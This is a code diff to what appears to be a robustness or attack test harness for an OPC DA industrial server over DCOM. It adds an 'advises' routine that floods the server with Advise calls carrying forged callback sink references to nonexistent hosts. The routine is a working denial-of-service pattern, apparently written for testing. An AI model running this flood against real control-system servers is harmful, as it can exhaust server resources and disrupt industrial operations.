@@ -16,8 +16,9 @@ import uuid
 from contextlib import suppress
 
 from impacket import ntlm
-from impacket_session import (CACHE, CLASS_ID, DEVICE, FLAT, IOPC_BROWSE, IOPC_GROUP_STATE, IOPC_ITEM_MGT, IOPC_SERVER,
-                              IOPC_SYNC_IO, Writer)
+from impacket_session import (CACHE, CLASS_ID, DEVICE, FLAT, ICONNECTION_POINT, ICONNECTION_POINT_CONTAINER, IOPC_BROWSE,
+                              IOPC_DATA_CALLBACK, IOPC_GROUP_STATE, IOPC_ITEM_MGT, IOPC_SERVER, IOPC_SYNC_IO, Writer,
+                              dual_string)
 from raw_rpc import (ACTIVATION, ACTIVATOR, ALTER_CONTEXT, BIND, OBJECT_EXPORTER, OBJECTS, REM_UNKNOWN, LoggedOn, Raw,
                      bind, contexts, requests, with_log_on)
 
@@ -25,10 +26,12 @@ USER, PASSWORD = 'mallory', 'open-sesame'
 SOURCE = '127.0.0.66'  # another host than the good client's
 IOPC_ITEM_IO = '85C0B427-2893-4CBC-BD78-E5FC5146F08F'
 IENUM_ITEMS = '39C13A55-011E-11D0-9675-0020AFD8ADB3'
-INTERFACES = [IOPC_SERVER, IOPC_BROWSE, IOPC_ITEM_IO, IOPC_ITEM_MGT, IOPC_SYNC_IO, IOPC_GROUP_STATE, REM_UNKNOWN]
-SERVER, BROWSE, ITEM_IO, ITEM_MGT, SYNC_IO, GROUP_STATE, REM = range(len(INTERFACES))
+INTERFACES = [IOPC_SERVER, IOPC_BROWSE, IOPC_ITEM_IO, IOPC_ITEM_MGT, IOPC_SYNC_IO, IOPC_GROUP_STATE, REM_UNKNOWN,
+              ICONNECTION_POINT_CONTAINER, ICONNECTION_POINT]
+SERVER, BROWSE, ITEM_IO, ITEM_MGT, SYNC_IO, GROUP_STATE, REM, CONTAINER, POINT = range(len(INTERFACES))
 ADD_GROUP, GROUP_BY_NAME, REMOVE_GROUP, ADD_ITEMS, CREATE_ENUMERATOR, READ, BROWSE_ITEMS = 3, 5, 7, 3, 9, 3, 5
 REM_QUERY, REM_ADD_REF, REM_RELEASE = 3, 4, 5
+FIND_POINT, ADVISE = 4, 5
 COMPLEX_PING = 2
 ITEM = 'North.Stack1.NOx'
 
@@ -176,6 +179,22 @@ def groups(address, scale):
             with suppress(OSError):
                 attacker.connection.result()
     attacker.connection.close()
+
+
+def advises(address, scale):
+    """Sinks without end, in programs that are not there, on as many groups as there may be."""
+    attacker = Attacker(address)
+    for number in range(1000 * scale):
+        reply = attacker.try_call(SERVER, ADD_GROUP, group_request('', ICONNECTION_POINT_CONTAINER))
+        for _, container in references(reply or b''):
+            found = attacker.call(CONTAINER, FIND_POINT, Writer().guid(IOPC_DATA_CALLBACK), container)
+            sink = (struct.pack('<4sI', b'MEOW', 1) + bytes(16) + struct.pack('<IIQQ', 0, 5, number % 16, number)
+                    + uuid.uuid4().bytes + dual_string([f'{SOURCE}[{1 + number % 5}]']))
+            stub = bytes(Writer().u32(1, len(sink), len(sink)).bytes(sink).data)
+            for _, point in references(found):
+                attacker.connection.send(requests(ADVISE, stub, POINT, point) * 10)
+                for _ in range(10):
+                    attacker.connection.result()
 
 
 def ping_sets(address, scale):
